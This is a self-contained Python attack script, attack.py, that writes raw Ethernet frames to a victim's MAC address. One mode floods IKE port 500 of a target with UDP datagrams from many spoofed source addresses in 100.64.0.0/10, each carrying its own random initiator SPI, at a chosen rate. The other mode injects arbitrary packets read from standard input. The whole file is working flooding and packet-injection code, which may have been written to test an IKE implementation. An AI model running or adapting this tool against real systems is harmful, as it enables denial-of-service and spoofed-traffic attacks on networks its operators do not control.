#!/usr/bin/env python3
"""Frames of an attacker on a shared segment. Python's standard library alone.

attack.py DEVICE MAC RATE init ADDRESS COUNT HEX
    COUNT datagrams to port 500 of ADDRESS, each from another address in 100.64.0.0/10, with the octets HEX behind an
    initiator's SPI of its own
attack.py DEVICE MAC RATE send
    the IP packets of standard input, one a line in hexadecimal digits, as they are

MAC is the victim's, RATE in packets a second. Prints how many packets it has sent.
"""
import os
import random
import socket
import struct
import sys
import time


def checksum(octets):
    total = sum(struct.unpack("!%dH" % (len(octets) // 2), octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def requests(address, count, octets):
    chance = random.Random(1)
    target = socket.inet_aton(address)
    length = len(octets)
    for number in range(count):
        source = struct.pack("!I", 0x64400000 + 1 + number)
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + length, number & 0xFFFF, 0, 64, 17, 0, source, target)
        header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
        # A checksum of zero: none was computed (RFC 768).
        udp = struct.pack("!HHHH", 500, 500, 8 + length, 0)
        yield header + udp + struct.pack("!Q", chance.getrandbits(64) | 1) + octets[8:]


def main():
    device, mac, rate, what = sys.argv[1:5]
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((device, 0))
    frame = bytes.fromhex(mac.replace(":", "")) + bytes.fromhex("020000000bad") + b"\x08\x00"
    if what == "init":
        # Made before the first is sent: sending alone is to set the pace.
        packets = list(requests(sys.argv[5], int(sys.argv[6]), bytes.fromhex(sys.argv[7])))
    else:
        packets = (bytes.fromhex(line.strip()) for line in sys.stdin)
    begin = time.monotonic()
    sent = 0
    for packet in packets:
        ahead = sent / float(rate) - (time.monotonic() - begin)
        if ahead > 0.002:
            time.sleep(ahead)
        try:
            out.send(frame + packet)
        except OSError as fault:
            # The queue of the device is full: an attacker does not mind.
            if fault.errno != 105:
                raise
        sent += 1
    print("%d in %.2f s" % (sent, time.monotonic() - begin))


if __name__ == "__main__":
    main()
